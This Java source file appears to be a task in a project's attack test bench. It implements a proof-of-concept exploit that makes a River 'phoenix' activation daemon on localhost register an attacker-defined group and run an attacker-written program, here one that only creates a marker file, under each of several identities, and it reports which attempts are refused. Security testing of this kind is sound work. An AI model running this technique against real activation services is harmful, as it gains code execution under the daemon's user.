package org.dfra.attack;

import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.activation.ActivationDesc;
import java.rmi.activation.ActivationGroupDesc;
import java.rmi.activation.ActivationGroupDesc.CommandEnvironment;
import java.rmi.activation.ActivationGroupID;
import java.rmi.activation.ActivationID;
import java.rmi.activation.ActivationSystem;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import net.jini.id.UuidFactory;
import net.jini.jeri.BasicObjectEndpoint;
import org.dfra.app.bench.attack.Task;
import org.dfra.river.call.DeadlineILFactory;
import org.dfra.river.call.Endpoints;
import org.dfra.river.phoenix.PhoenixAdmin;

/**
 * Has phoenix run a program of the attacker's, as phoenix's user: it registers a group with a class
 * path of its own, under each of the identities that phoenix might have, and activates an object in
 * it.
 *
 * <p>For each identity it prints {@code answered} or {@code silent}, whether phoenix answers under
 * it, and {@code registered} or {@code refused}, with why.
 */
public final class RegisterOwnGroup implements Task {

  private static final Duration DEADLINE = Duration.ofSeconds(20);

  /**
   * Registers.
   *
   * @param args phoenix's port at 127.0.0.1, a folder of the attacker's, the file that its program
   *     is to make, and the identities
   */
  @Override
  public void run(String[] args, PrintStream out) throws Exception {
    int port = Integer.parseInt(args[0]);
    Path folder = Path.of(args[1]);
    Path program = folder.resolve("Evil.java");
    Files.writeString(
        program,
        """
        class Evil {
          public static void main(String[] unused) throws Exception {
            java.nio.file.Files.createFile(java.nio.file.Path.of("%s"));
          }
        }
        """
            .formatted(args[2]));
    for (String identity : List.of(args).subList(3, args.length)) {
      PhoenixAdmin admin = (PhoenixAdmin) proxy(port, identity);
      try {
        out.println("answered " + admin.groupStatus().size() + " groups");
      } catch (Exception e) {
        out.println("silent " + line(e));
      }
      ActivationGroupDesc desc =
          new ActivationGroupDesc(
              null,
              new CommandEnvironment(
                  null, new String[] {"-cp", folder.toString(), program.toString()}));
      register(proxy(port, identity), desc, out);
    }
    out.println("done");
  }

  private static void register(ActivationSystem system, ActivationGroupDesc desc, PrintStream out) {
    try {
      ActivationGroupID group = system.registerGroup(desc);
      out.println("registered");
      ActivationID object = system.registerObject(new ActivationDesc(group, "Evil", null, null));
      activate(object, out);
    } catch (Exception e) {
      out.println("refused " + line(e));
    }
  }

  /** The program reports no group, so the activation fails; by then the program has run. */
  private static void activate(ActivationID object, PrintStream out) {
    try {
      out.println("activated " + object.activate(false));
    } catch (Exception e) {
      out.println("ran " + line(e));
    }
  }

  private static ActivationSystem proxy(int port, String identity) {
    UUID uuid = UUID.fromString(identity);
    return (ActivationSystem)
        DeadlineILFactory.proxy(
            new BasicObjectEndpoint(
                Endpoints.at("127.0.0.1", port),
                UuidFactory.create(uuid.getMostSignificantBits(), uuid.getLeastSignificantBits()),
                false),
            DEADLINE,
            RegisterOwnGroup.class.getClassLoader(),
            ActivationSystem.class,
            PhoenixAdmin.class);
  }

  private static String line(Exception e) {
    return e.toString().replaceAll("\\s+", " ");
  }
}
